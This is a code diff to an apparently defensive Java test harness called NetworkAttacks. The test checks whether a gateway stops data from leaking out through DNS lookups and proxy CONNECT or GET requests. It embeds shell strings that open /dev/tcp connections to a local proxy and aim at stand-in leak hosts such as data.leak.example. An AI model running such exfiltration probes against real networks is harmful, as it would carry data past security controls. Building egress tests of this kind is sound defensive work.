@@ -61,21 +61,21 @@ final class NetworkAttacks {
 
     /** A name with data in it, by every way there is; the one name that is allowed shows that the gateway looks names up at all. */
     private static Outcome names(Target target) {
-        target.lookedUp().clear();
+        target.out().lookedUp().clear();
         String connect =
                 "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT %s:443 HTTP/1.1\\r\\nHost: %s:443\\r\\n\\r\\n' NAME NAME >&3; read -r -t 5 line <&3; echo \"$line\"";
         Said control = target.inside(connect.replace("NAME", "allowed.example"));
-        if (!target.lookedUp().contains("allowed.example")) {
+        if (!target.out().lookedUp().contains("allowed.example")) {
             return new Outcome.Unproven("an allowed name is not looked up: " + control.line());
         }
-        target.lookedUp().clear();
+        target.out().lookedUp().clear();
         Said inside = target.inside(
                 "getent hosts data.leak.example; "
                         + connect.replace("NAME", "data.leak.example")
                         + "; exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://data.leak.example/ HTTP/1.1\\r\\nHost: data.leak.example\\r\\n\\r\\n' >&3; read -r -t 5 line <&3; echo \"$line\""
                         + "; exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT data.allowed.example:443 HTTP/1.1\\r\\nHost: data.allowed.example:443\\r\\n\\r\\n' >&3; read -r -t 5 line <&3; echo \"$line\"");
-        if (!target.lookedUp().isEmpty()) {
-            return new Outcome.Escaped("looked up: " + target.lookedUp());
+        if (!target.out().lookedUp().isEmpty()) {
+            return new Outcome.Escaped("looked up: " + target.out().lookedUp());
         }
         return inside.has(" 403 ")
                 ? new Outcome.Held()
